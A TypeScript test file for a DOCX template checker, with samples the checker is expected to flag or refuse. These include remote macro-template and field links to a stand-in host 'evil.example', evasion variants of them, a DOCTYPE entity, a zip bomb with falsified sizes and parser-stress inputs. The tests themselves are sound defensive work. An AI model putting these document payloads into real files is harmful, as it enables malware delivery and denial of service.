import JSZip from 'jszip';
import { expect, test } from 'vitest';
import { checkPaper } from '../../templates/letters/paper/check.ts';
import { pack, unpack } from '../../templates/letters/paper/package.ts';
import { aPaper, withParts } from '../support/aPaper.ts';

const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const TARGET = 'http://evil.example/t.dotm';
const RELATIONSHIPS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';

const codes = (bytes: Uint8Array): readonly string[] => checkPaper(bytes).map(({ code }) => code);
const inBody = async (xml: string): Promise<Uint8Array> =>
  withParts(await aPaper(), { 'word/document.xml': (before) => before.replace('<w:body>', () => `<w:body>${xml}`) });
const related = async (xml: string): Promise<Uint8Array> =>
  withParts(await aPaper(), {
    'word/_rels/document.xml.rels': (before) => before.replace('</Relationships>', () => `${xml}</Relationships>`),
  });

test.each([
  ['in single quotes', `<Relationship Id='rX' Type='${TEMPLATE}' Target='${TARGET}' TargetMode='External'/>`],
  ['with spaces', `<Relationship Id="rX" Type="${TEMPLATE}" Target="${TARGET}" TargetMode = "External"/>`],
  ['as a reference', `<Relationship Id="rX" Type="${TEMPLATE}" Target="${TARGET}" TargetMode="&#69;xternal"/>`],
  ['after a >', `<Relationship Id="a>b" Type="${TEMPLATE}" Target="${TARGET}" TargetMode="External"/>`],
  [
    'beside the word hyperlink',
    `<Relationship Id="rX" Type="${TEMPLATE}" Target="${TARGET}" TargetMode="External" xType="x/hyperlink"/>`,
  ],
])('a template fetched from elsewhere is found %s', async (_, xml) => {
  expect(checkPaper(await related(xml))).toMatchObject([
    { code: 'EXTERNAL_LINK', detail: expect.stringContaining(TARGET) },
  ]);
});

test('a template fetched from elsewhere is found under a prefix and in a part named in capitals', async () => {
  const link = `Id="rX" Type="${TEMPLATE}" Target="${TARGET}" TargetMode="External"`;
  const parts = {
    'word/_rels/header1.xml.rels': `<p:Relationships ${RELATIONSHIPS.replace('xmlns', 'xmlns:p')}><p:Relationship ${link}/></p:Relationships>`,
    'word/_rels/settings.xml.RELS': `<Relationships ${RELATIONSHIPS}><Relationship ${link}/></Relationships>`,
  };
  for (const [name, xml] of Object.entries(parts))
    expect(codes(await withParts(await aPaper(), { [name]: () => xml })), name).toEqual(['EXTERNAL_LINK']);
});

test('a field that fetches is found as an attribute and cut in two; one that numbers pages isn’t', async () => {
  const simple = (command: string): string => `<w:p><w:fldSimple w:instr="${command}"/></w:p>`;
  expect(codes(await inBody(simple(' INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d')))).toEqual([
    'EXTERNAL_LINK',
  ]);
  expect(
    codes(
      await inBody(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "http://evil.example/x"</w:instrText></w:r></w:p>',
      ),
    ),
  ).toEqual(['EXTERNAL_LINK']);
  expect(codes(await inBody(simple(' PAGE ')))).toEqual([]);
});

test('XML that is none, in another encoding, or with a DOCTYPE is refused', async () => {
  expect(codes(await inBody('<w:p>'))).toEqual(['NOT_A_DOCX']);
  const doctype = (before: string): string =>
    before.replace('<w:document', '<!DOCTYPE x [<!ENTITY e "e">]><w:document');
  expect(codes(await withParts(await aPaper(), { 'word/document.xml': doctype }))).toEqual(['NOT_A_DOCX']);
  const zip = await JSZip.loadAsync(await aPaper());
  zip.file('word/_rels/settings.xml.rels', Buffer.from(`\uFEFF<Relationships ${RELATIONSHIPS}/>`, 'utf16le'));
  expect(codes(await zip.generateAsync({ type: 'uint8array' }))).toEqual(['NOT_A_DOCX']);
});

test.each(['<', '<mc:Fallback>', '<w:delText ', '<w:instrText ', '<mc:Fallback>x'])(
  'a hundred thousand of %s are read in one pass',
  async (piece) => {
    const bytes = await inBody(piece.repeat(100_000));
    const before = performance.now();
    expect(codes(bytes)).toEqual(['NOT_A_DOCX']);
    expect(performance.now() - before).toBeLessThan(3000);
  },
);

test('a part that unpacks to more than the archive says is never unpacked', async () => {
  const zip = await JSZip.loadAsync(await aPaper());
  zip.file('word/media/logo.png', new Uint8Array(30_000_000));
  const bomb = Buffer.from(await zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
  expect(codes(bomb)).toEqual([]);
  const sizes = [...bomb.keys()].filter((at) => at + 4 <= bomb.length && bomb.readUInt32LE(at) === 30_000_000);
  expect(sizes.length).toBeGreaterThan(0);
  for (const at of sizes) bomb.writeUInt32LE(1000, at);
  expect(codes(bomb)).toEqual(['NOT_A_DOCX']);
});

test('a part that is there twice, in capitals or not, is refused', async () => {
  const twice = await withParts(await aPaper(), { 'word/Document.xml': () => '<a/>' });
  expect(codes(twice)).toEqual(['NOT_A_DOCX']);
});

test('what letters are written on is what was checked', async () => {
  const bytes = await aPaper();
  const parts = unpack(bytes)?.parts ?? new Map<string, Uint8Array>();
  expect(parts.size).toBeGreaterThan(5);
  const again = await JSZip.loadAsync(pack({ parts, xml: new Map() }));
  const files = Object.values(again.files).filter(({ dir }) => !dir);
  expect(files.map(({ name }) => name).toSorted()).toEqual([...parts.keys()].toSorted());
  for (const file of files)
    expect(Buffer.from(await file.async('uint8array')).equals(parts.get(file.name) ?? new Uint8Array())).toBe(true);
});
